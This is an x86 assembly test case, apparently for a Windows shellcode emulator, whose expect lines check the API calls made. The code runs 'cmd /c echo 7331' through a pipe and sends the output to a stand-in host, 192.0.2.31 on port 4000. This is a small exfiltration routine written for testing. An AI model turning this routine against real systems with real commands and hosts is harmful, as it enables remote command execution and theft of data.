; SPDX-License-Identifier: GPL-2.0-or-later
; A command's output comes back through a pipe, and goes on over a connection.
; expect: connect 192.0.2.31 4000
; expect: exec C:\Windows\System32\cmd.exe cmd /c echo 7331
; expect: send 6
%include "way32.inc"
	sub esp, 0x400
	mov edi, esp
	function "kernel32.dll", "CreatePipe"
	mov dword [edi + 0x80], 12
	mov dword [edi + 0x84], 0
	mov dword [edi + 0x88], 1
	push 0
	lea ecx, [edi + 0x80]
	push ecx
	lea ecx, [edi + 0x94]
	push ecx
	lea ecx, [edi + 0x90]
	push ecx
	call eax
	push edi
	xor eax, eax
	mov ecx, 0x20
	rep stosd
	pop edi
	mov byte [edi], 0x44
	mov dword [edi + 0x2c], 0x101
	mov eax, [edi + 0x94]
	mov [edi + 0x3c], eax
	mov [edi + 0x40], eax
	function "kernel32.dll", "CreateProcessA"
	lea ecx, [edi + 0x60]
	push ecx
	push edi
	push 0
	push 0
	push 0
	push 1
	push 0
	push 0
	text "cmd /c echo 7331"
	push 0
	call eax
	function "kernel32.dll", "ReadFile"
	push 0
	lea ecx, [edi + 0x98]
	push ecx
	push 0x100
	lea ecx, [edi + 0x100]
	push ecx
	push dword [edi + 0x90]
	call eax
	cmp dword [edi + 0x100], '7331'
	jne odd
	function "ws2_32.dll", "WSAStartup"
	lea ecx, [edi + 0x200]
	push ecx
	push 0x202
	call eax
	function "ws2_32.dll", "socket"
	push 6
	push 1
	push 2
	call eax
	mov esi, eax
	mov dword [edi], 0xa00f0002
	mov dword [edi + 4], 0x1f0200c0
	function "ws2_32.dll", "connect"
	push 16
	push edi
	push esi
	call eax
	function "ws2_32.dll", "send"
	push 0
	push dword [edi + 0x98]
	lea ecx, [edi + 0x100]
	push ecx
	push esi
	call eax
	function "kernel32.dll", "ExitProcess"
	push 0
	call eax
odd:
	ud2
